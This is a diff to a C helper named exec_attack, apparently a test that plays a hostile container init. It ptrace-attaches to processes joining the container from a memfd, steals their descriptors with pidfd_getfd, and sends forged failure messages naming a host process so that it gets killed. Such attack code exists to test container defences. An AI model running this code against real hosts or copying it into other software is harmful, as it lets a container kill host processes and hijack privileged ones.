@@ -1,12 +1,16 @@
 /* SPDX-License-Identifier: LGPL-2.1-or-later
  *
  * Init of a container: looks for processes that join the container but have not
- * executed their program yet, which run from a memfd, and tries to take them over.
+ * executed their program yet, which run from a memfd, and tries to take them
+ * over.
  *
- *   exec_attack OUT
+ *   exec_attack OUT VICTIM
  *
- * OUT has a line for each that was seen: "seen CAPPRM DUMPED", where DUMPED is OK or
- * the error of ptrace(2), followed by the descriptors that could be read.
+ * Over every socket that such a process holds, it tells the other end that the
+ * program is process VICTIM of the host and has failed, so that it is killed.
+ *
+ * OUT has a line for each that was seen: "seen CAPPRM DUMPED", where DUMPED is
+ * OK or the error of ptrace(2), followed by the descriptors that could be read.
  */
 #include <ctype.h>
 #include <dirent.h>
@@ -16,6 +20,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -106,8 +112,29 @@ joins(const char *pid)
     return strstr(comm, "lxc") != NULL;
 }
 
+/* Not all may be sockets. */
 static void
-attack(const char *pid, int out)
+spoof(pid_t number, pid_t victim)
+{
+    static const char failure[] = "fspoofed\0\0\0\0";
+    int process = syscall(SYS_pidfd_open, number, 0);
+    int i;
+
+    for (i = 3; process >= 0 && i < 64; i++) {
+        int fd = syscall(SYS_pidfd_getfd, process, i, 0);
+
+        if (fd < 0)
+            continue;
+        send(fd, &victim, sizeof(victim), MSG_NOSIGNAL);
+        send(fd, failure, sizeof(failure), MSG_NOSIGNAL);
+        close(fd);
+    }
+    if (process >= 0)
+        close(process);
+}
+
+static void
+attack(const char *pid, int out, pid_t victim)
 {
     pid_t number = atoi(pid);
     long rc;
@@ -125,6 +152,10 @@ attack(const char *pid, int out)
     if (joins(pid) && write(out, line, strlen(line)) < 0)
         _exit(1);
     if (rc == 0) {
+        ptrace(PTRACE_INTERRUPT, number, NULL, NULL);
+        waitpid(number, NULL, __WALL);
+        if (joins(pid))
+            spoof(number, victim);
         kill(number, SIGKILL);
         waitpid(number, NULL, __WALL);
     }
@@ -133,7 +164,8 @@ attack(const char *pid, int out)
 int
 main(int argc, char **argv)
 {
-    int out = open(argc > 1 ? argv[1] : "/out", O_WRONLY | O_APPEND | O_CREAT, 0666);
+    int out =
+        open(argc > 1 ? argv[1] : "/out", O_WRONLY | O_APPEND | O_CREAT, 0666);
 
     if (out < 0 || write(out, "ready\n", 6) != 6)
         return 1;
@@ -144,7 +176,7 @@ main(int argc, char **argv)
 
         while (directory && (entry = readdir(directory))) {
             if (isdigit((unsigned char)entry->d_name[0]))
-                attack(entry->d_name, out);
+                attack(entry->d_name, out, argc > 2 ? atoi(argv[2]) : 0);
         }
         if (directory)
             closedir(directory);
